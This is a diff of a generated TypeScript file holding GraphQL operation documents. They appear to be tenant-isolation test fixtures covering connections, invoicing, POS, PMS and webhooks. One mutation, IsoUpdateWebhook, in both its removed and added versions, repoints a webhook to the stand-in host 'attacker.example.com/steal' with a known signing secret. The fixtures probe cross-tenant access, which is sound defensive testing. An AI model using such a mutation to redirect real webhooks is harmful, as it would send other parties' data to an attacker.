+export const IsoCreateConnectionDocument = {"__meta__":{"hash":"a7f60d6f3263e1439e666d8cae0d3366ed181172e2eff00408f2e3db3aa248b0"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoCreateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"integrationId"},"value":{"kind":"IntValue","value":"1"}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"connection"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"connectUrl"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoCreateConnectionMutation, IsoCreateConnectionMutationVariables>;
+export const IsoUpdateConnectionDocument = {"__meta__":{"hash":"58cdc15451f11232d90880890df5606679269891fa0cb7fa9eeae6af53acdf39"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"status"},"value":{"kind":"EnumValue","value":"INACTIVE"}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"connection"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"connectUrl"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoUpdateConnectionMutation, IsoUpdateConnectionMutationVariables>;
+export const IsoDeleteConnectionDocument = {"__meta__":{"hash":"5ebe0458244b98b15f4fe7d901e75a27193005daa18b10f66931be3fcd2020af"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deletedId"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoDeleteConnectionMutation, IsoDeleteConnectionMutationVariables>;
+export const IsoInvoicingTaxesDocument = {"__meta__":{"hash":"84f79447e008b68fbf93d933c4e2d4f02c34abc06dd4d4ac1f9c6659f29ca4e0"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoInvoicingTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoInvoicingTaxesQuery, IsoInvoicingTaxesQueryVariables>;
+export const IsoOpportunitiesDocument = {"__meta__":{"hash":"528e3739161ce833c69ba5a0f709efc1ac8cb90d93f927b2a006d4b4e58308d6"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoOpportunitiesQuery, IsoOpportunitiesQueryVariables>;
+export const IsoContactDocument = {"__meta__":{"hash":"de16a26f8a00b95eddf201bc812e1737afd5afb90e74b5f77630a20bda6a9320"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"StringValue","value":"contact-0001","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoContactQuery, IsoContactQueryVariables>;
+export const IsoCreateProductDocument = {"__meta__":{"hash":"d79fbe533b5710651b9cde3fd847d60f1bd19a023f6274d11eba9a3c8a2e7454"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"name"},"value":{"kind":"StringValue","value":"Planted","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"product"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoCreateProductMutation, IsoCreateProductMutationVariables>;
+export const IsoModifiersDocument = {"__meta__":{"hash":"785a3ee062f3520dc2d7c46653adfb7704ca2b218982954443ff4f3004d9a423"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoModifiersQuery, IsoModifiersQueryVariables>;
+export const IsoPmsTaxesDocument = {"__meta__":{"hash":"c1592d2270418c0e713c237e0c2bf9b3da6a2ee7a4f78eb0052ad857d28b3241"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoPmsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoPmsTaxesQuery, IsoPmsTaxesQueryVariables>;
+export const IsoPmsOrdersDocument = {"__meta__":{"hash":"60c342de05bee5e75814d41b4e4a5ecf0841c5714d0d09fabdabb6564301de05"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoPmsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"EnumValue","value":"CLOSED"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoPmsOrdersQuery, IsoPmsOrdersQueryVariables>;
 export const IsoWebhookDocument = {"__meta__":{"hash":"f13011628d92274f6c51e544a74b67e06a86a8d17643e75c73bd03edd63fa843"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"url"}}]}}]}}]} as unknown as DocumentNode<IsoWebhookQuery, IsoWebhookQueryVariables>;
-export const IsoWebhookLogsDocument = {"__meta__":{"hash":"06f1b6e3b97aa3d26057f3ada290323a97f7e8ea55b88da180d99ccf03b678bf"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoWebhookLogs"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"logs"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]} as unknown as DocumentNode<IsoWebhookLogsQuery, IsoWebhookLogsQueryVariables>;
-export const IsoUpdateWebhookDocument = {"__meta__":{"hash":"e3b38a8bceacc64d8742396565f6bd716cd0287e401d163fa70a9f25132dfd81"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"url"},"value":{"kind":"StringValue","value":"https://attacker.example.com/steal","block":false}},{"kind":"ObjectField","name":{"kind":"Name","value":"signingSecret"},"value":{"kind":"StringValue","value":"known","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoUpdateWebhookMutation, IsoUpdateWebhookMutationVariables>;
-export const IsoDeleteWebhookDocument = {"__meta__":{"hash":"b3f8fde2a6bc4cf520029de543ffc1047495be9b177ea6d75785cbf2cebf11cd"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}]}}]} as unknown as DocumentNode<IsoDeleteWebhookMutation, IsoDeleteWebhookMutationVariables>;
-export const MgmtConsumersDocument = {"__meta__":{"hash":"3574ee1885e1b92bfbaf64c6b9e71a2ebc462f1ce0e1472fd38b1487dbd3ee1d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtConsumers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"internalReference"}},{"kind":"Field","name":{"kind":"Name","value":"redirectUrl"}}]}}]}}]} as unknown as DocumentNode<MgmtConsumersQuery, MgmtConsumersQueryVariables>;
+export const IsoWebhookLogsDocument = {"__meta__":{"hash":"2db052b4e55793045950d3a9a4b0615e5e2de959475a9fe7eac6646be5f51c4e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoWebhookLogs"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"logs"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoWebhookLogsQuery, IsoWebhookLogsQueryVariables>;
+export const IsoUpdateWebhookDocument = {"__meta__":{"hash":"16c4f279b5f7bc5412aab3ee95b52e5a315e6720ba424961bea31149e149ad46"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"url"},"value":{"kind":"StringValue","value":"https://attacker.example.com/steal","block":false}},{"kind":"ObjectField","name":{"kind":"Name","value":"signingSecret"},"value":{"kind":"StringValue","value":"known","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"webhook"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoUpdateWebhookMutation, IsoUpdateWebhookMutationVariables>;
+export const IsoDeleteWebhookDocument = {"__meta__":{"hash":"41eb80f532ac2c4a745732c47d529b3749f751f67bfad2942ce063119d006c9c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deletedId"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoDeleteWebhookMutation, IsoDeleteWebhookMutationVariables>;
+export const IsoTestWebhookDocument = {"__meta__":{"hash":"b16f681b55abb9b54791e0355be5ab06bd086d5e468e200094d394b3e15343df"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoTestWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"testWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"log"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoTestWebhookMutation, IsoTestWebhookMutationVariables>;
+export const MgmtConsumersDocument = {"__meta__":{"hash":"4710ddc8b6c4bb001724b80882d84b8c68edeab25a532fba74d50b39c37e1692"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtConsumers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"internalReference"}},{"kind":"Field","name":{"kind":"Name","value":"redirectUrl"}}]}}]}}]}}]} as unknown as DocumentNode<MgmtConsumersQuery, MgmtConsumersQueryVariables>;
 export const MgmtConsumerDocument = {"__meta__":{"hash":"d0b0c2ef4580dd783d3cb7cc6cffe8cd744d9e0c5aaba0dd9ce3fe2d36651b8b"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MgmtConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}},{"kind":"Field","name":{"kind":"Name","value":"internalReference"}},{"kind":"Field","name":{"kind":"Name","value":"redirectUrl"}},{"kind":"Field","name":{"kind"